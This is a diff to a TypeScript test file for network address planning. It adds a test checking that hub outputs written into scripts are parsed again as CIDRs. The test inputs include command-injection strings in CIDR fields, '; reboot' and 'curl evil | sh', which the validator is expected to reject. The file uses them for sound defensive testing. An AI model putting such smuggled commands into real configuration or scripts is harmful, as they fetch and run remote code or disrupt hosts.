@@ -4,7 +4,7 @@ import * as ipaddr from "ipaddr.js";
 import { Problems } from "../../components/config/problems";
 import { checkDisjoint, checkSiteRanges, KeyedCidr, overlappingPairs, SiteRanges } from "../../components/network/addressPlan";
 import { carve, cidr, CidrProblem, contains, exclude, overlaps, parseCidr } from "../../components/network/cidr";
-import { otherSiteNetworks } from "../../components/network/otherSites";
+import { hubCidrs, otherSiteNetworks } from "../../components/network/otherSites";
 import { planPrivateSubnets, planSupernetRoutes } from "../../components/network/vpcPlan";
 
 describe("CIDR parsing", () => {
@@ -246,5 +246,16 @@ describe("the other sites' networks (a supernet without the site's own CIDRs)", 
             () => otherSiteNetworks(["10.80.0.0/12; reboot"], ["10.80.1.0/24"]),
             /^Error: the hub's remote network "10\.80\.0\.0\/12; reboot" is not an IPv4 CIDR such as 10\.80\.0\.0\/12$/,
         );
+    });
+});
+
+describe("hub outputs a site writes into scripts", () => {
+    it("are parsed again as CIDRs: a shell command in vpcCidrs is refused, naming the output", () => {
+        assert.deepEqual(hubCidrs(["10.0.0.0/16", "100.64.0.0/16"], "vpcCidrs"), ["10.0.0.0/16", "100.64.0.0/16"]);
+        assert.throws(
+            () => hubCidrs(["10.0.0.0/16 dev lo; curl evil | sh"], "vpcCidrs"),
+            /^Error: the hub's output vpcCidrs holds "10\.0\.0\.0\/16 dev lo; curl evil \| sh", not an IPv4 CIDR such as 10\.0\.0\.0\/16$/,
+        );
+        assert.throws(() => hubCidrs("10.0.0.0/16", "vpcCidrs"), /^Error: the hub's output vpcCidrs is not a list of IPv4 CIDRs$/);
     });
 });
